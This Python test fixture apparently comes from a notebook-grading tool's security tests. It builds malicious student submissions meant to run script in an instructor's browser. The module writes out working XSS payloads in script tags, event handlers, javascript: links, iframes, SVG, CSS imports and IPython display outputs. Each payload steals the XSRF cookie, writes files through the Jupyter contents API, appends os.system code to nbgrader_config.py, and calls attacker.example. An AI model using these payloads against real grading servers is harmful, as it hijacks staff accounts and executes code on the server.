"""What an attacking student hands in to reach the instructor's browser (issue 28): a written answer and cell outputs
carrying script, event handlers, ``javascript:`` links, iframes, SVG, and remote resources, one of each kind.

Every payload, if it ran, would log ``MARK:<kind>`` to the console (what the tests watch for), write a file and append
Python to ``nbgrader_config.py`` through the contents API with the TA's login (what the real attack did), and fetch
``http://attacker.example/...``. Every remote resource names ``attacker.example``. The answer keeps a plain sentence
(:data:`ANSWER_TEXT`) and a formula the grader must still be able to read.
"""

from __future__ import annotations

MARK = "LOOPLAB-PWNED"
ATTACKER = "attacker.example"
ANSWER_TEXT = "Without zero_grad the gradients of every batch add up"
FORMULA = r"$g_t = \sum_i \nabla L_i$"


def payload(kind: str) -> str:
    """JavaScript with no space, no double quote and balanced parentheses (it fits an attribute and a markdown link)."""
    xsrf = "(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]||''"
    put = ("fetch('/api/contents/{name}',{{method:'PUT',headers:{{'X-XSRFToken':" + xsrf + "}},"
           "body:JSON.stringify({{type:'file',format:'text',content:'{content}'}})}})")
    return ";".join([
        f"console.log('{MARK}:{kind}')",
        put.format(name=f"pwned-{kind}.txt", content="pwned"),
        put.format(name="nbgrader_config.py", content="import\\u0020os;os.system(\\u0022true\\u0022)"),
        f"document.createElement('img').src='http://{ATTACKER}/ran/{kind}'",
    ])


def written_answer() -> str:
    """The markdown answer: readable text and math, then every markup that could run or fetch."""
    return "\n\n".join([
        f"{ANSWER_TEXT}, so the step follows a stale running sum: {FORMULA}.",
        f'<img src=x onerror="{payload("md-img")}">',
        f"<script>{payload('md-script')}</script>",
        f"[a markdown link](javascript:{payload('md-link')})",
        f'<a href="javascript:{payload("md-a")}">an HTML link</a>',
        f'<iframe srcdoc="<script>{payload("md-srcdoc")}</script>"></iframe>',
        f'<svg onload="{payload("md-svg")}"><rect width="5" height="5"/></svg>',
        f'<details open ontoggle="{payload("md-details")}">details</details>',
        f'<img src="http://{ATTACKER}/remote-answer.png"> ![remote](http://{ATTACKER}/remote-md.png)',
        f'<style>@import url("http://{ATTACKER}/answer.css"); '
        f'body {{ background: url("http://{ATTACKER}/answer-bg.png") }}</style>',
        f'<form action="http://{ATTACKER}/form"><button>Submit</button></form>',
        f'<object data="http://{ATTACKER}/object.html"></object>',
        f'<meta http-equiv="refresh" content="0;url=http://{ATTACKER}/refresh">',
    ])


def output_cell() -> str:
    """A code cell whose outputs carry script of every kind a kernel can send."""
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" onload="%s"><rect width="5" height="5"/></svg>'
           % payload("out-svg"))
    raw_bundle = {"text/html": f"<script>{payload('out-raw')}</script>",
                  "image/png": f'x" onerror="{payload("out-png")}'}
    width = {"image/png": {"width": f'1" onerror="{payload("out-width")}'}}
    lines = [
        "from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display",
        f"display(HTML({_html_img('out-html')!r}))",
        f"display(Javascript({payload('out-js')!r}))",
        f"display(Markdown({_html_img('out-md') + ' [md](javascript:' + payload('out-md-link') + ')'!r}))",
        f"display(SVG({svg!r}))",
        f"display(HTML({_srcdoc('out-srcdoc')!r}))",
        f"display(Latex({'<script>' + payload('out-latex') + '</script>'!r}))",
        f"display({raw_bundle!r}, raw=True)",
        f"display({{'image/png': 'iVBORw0KGgo='}}, raw=True, metadata={width!r})",
        "class Shown:",
        f"    def _repr_html_(self): return {'<script>' + payload('out-repr') + '</script>'!r}",
        "display(Shown())",
        f"print({'<script>' + payload('out-print') + '</script>'!r})",
    ]
    return "\n".join(lines)


def _html_img(kind: str) -> str:
    return f'<img src=x onerror="{payload(kind)}"><img src="http://{ATTACKER}/{kind}.png">'


def _srcdoc(kind: str) -> str:
    return f'<iframe srcdoc="<script>{payload(kind)}</script>"></iframe>'


def function_wrapper(name: str = "train_one_epoch") -> str:
    """A student's function that shows HTML each time it runs (under the graded tests too), then does the work of
    ``_looplab_<name>`` (the correct one, renamed)."""
    script = "<script>" + payload("fn-print") + "</script>"
    return "\n".join([
        f"def {name}(*args, **kwargs):",
        "    from IPython.display import HTML, display",
        f"    display(HTML({_html_img('fn-html')!r}))",
        f"    print({script!r})",
        f"    return _looplab_{name}(*args, **kwargs)",
    ])
